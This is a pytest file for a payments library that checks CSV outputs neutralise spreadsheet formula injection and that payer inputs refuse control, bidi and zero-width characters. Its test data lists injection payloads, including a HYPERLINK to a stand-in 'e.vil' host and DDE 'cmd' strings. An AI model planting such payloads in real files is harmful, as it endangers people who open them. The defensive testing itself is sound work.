"""Text that attacks the reader of our outputs: spreadsheet formulas and invisible characters.

Every CSV the library writes (reconciliation details and attention lists, public notices)
goes through one cell rule (OWASP: a cell starting with = + - @ TAB or CR is prefixed with a
single quote, plain numbers stay numbers). Control, bidi and zero-width characters in payer
ids, references and names are refused where they come in: ``PaymentRequest`` names the
field, the roster reader the line and column.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from paychannels import Money, PaymentRequest
from paychannels.documents.notices import Level, build_notices, write_notices
from paychannels.documents.roster import RosterError, load_roster
from paychannels.reconcile import reconcile
from paychannels.reconcile.report import write_outputs
from paychannels.security.textrules import csv_cell, unsafe_character
from paychannels.values.errors import InvalidRequest
from tests.reconcile.day import HEAD, Day, payer

FORMULAS = ['=HYPERLINK("http://e.vil/?x")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3+cmd|x"]
INVISIBLE = {
    "C1 control": "\x85",
    "right-to-left override": "\u202e",
    "left-to-right isolate": "\u2066",
    "pop directional isolate": "\u2069",
    "zero-width space": "\u200b",
    "byte order mark": "\ufeff",
    "word joiner": "\u2060",
}


@pytest.mark.parametrize("cell", [*FORMULAS, "\t=1+1", "\r=1+1", "=1+1"])
def test_a_formula_cell_is_neutralised(cell: str) -> None:
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-300.00", "+86", "380.00", "张*三", "", "a=b", 12, None])
def test_plain_cells_are_left_alone(cell: object) -> None:
    assert csv_cell(cell) == ("" if cell is None else str(cell))


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text("utf-8-sig"))))


def _live_formulas(paths: list[Path]) -> list[tuple[str, str]]:
    live = []
    for path in paths:
        for row in _rows(path):
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and csv_cell(cell) != cell:
                    live.append((path.name, cell))
    return live


def test_no_output_csv_keeps_a_live_formula(tmp_path: Path) -> None:
    d = Day.open(tmp_path, f"sqlite:///{tmp_path}/j.db")
    for n, evil in enumerate(FORMULAS, start=1):
        d.owe(n, "300.00", name=evil, town=evil, village=evil)
        d.pay(n, "300.00", channel="wx", reference=f"{evil}"[:60], attention=evil)
    d.owe(9, "300.00", name=FORMULAS[0])
    rec = reconcile(d.journal, d.roster)
    outputs = write_outputs(rec, tmp_path / "out")
    notices = build_notices(rec, Level.VILLAGE, county="=1+1")
    written = write_notices(notices, tmp_path / "lists", on=date(2026, 3, 3))
    csvs = [outputs["details"], outputs["attention"], *(p for p in written if p.suffix == ".csv")]
    assert any(FORMULAS[0][1:] in c for p in csvs for row in _rows(p) for c in row)
    assert _live_formulas(csvs) == []


@pytest.mark.parametrize("what", sorted(INVISIBLE))
@pytest.mark.parametrize("field", ["payer_id", "reference", "payer_name"])
def test_payment_request_refuses_invisible_characters(what: str, field: str) -> None:
    values = {"payer_id": "150422198001011234", "reference": "2026", "payer_name": "张三"}
    values[field] = values[field][:3] + INVISIBLE[what] + values[field][3:]
    with pytest.raises(InvalidRequest, match=field) as info:
        PaymentRequest(amount=Money("1.00", "CNY"), idempotency_key="k-1", **values)  # type: ignore[arg-type]
    assert f"U+{ord(INVISIBLE[what]):04X}" in str(info.value)


@pytest.mark.parametrize("what", sorted(INVISIBLE))
def test_the_roster_refuses_invisible_characters_naming_line_and_column(
    tmp_path: Path, what: str
) -> None:
    char = INVISIBLE[what]
    roster = tmp_path / "r.csv"
    good = f"{payer(1)},张三,索伦镇,新立村,城乡居民基本养老保险,一档,300.00,2026,hall\n"
    bad = f"{payer(2)},王{char}五,索伦镇,新立村,城乡居民基本养老保险,一档,300.00,2026,hall\n"
    roster.write_text(HEAD + good + bad, "utf-8")
    with pytest.raises(RosterError) as info:
        load_roster(roster)
    text = str(info.value)
    assert "line 3, column name" in text and f"U+{ord(char):04X}" in text, text


def test_unsafe_character_names_what_and_where() -> None:
    assert unsafe_character("ab\u202ec") == (2, "U+202E RIGHT-TO-LEFT OVERRIDE")
    assert unsafe_character("ᠪᠠᠲᠤ") is None
    assert unsafe_character("Zoë O'Brien-Smith") is None
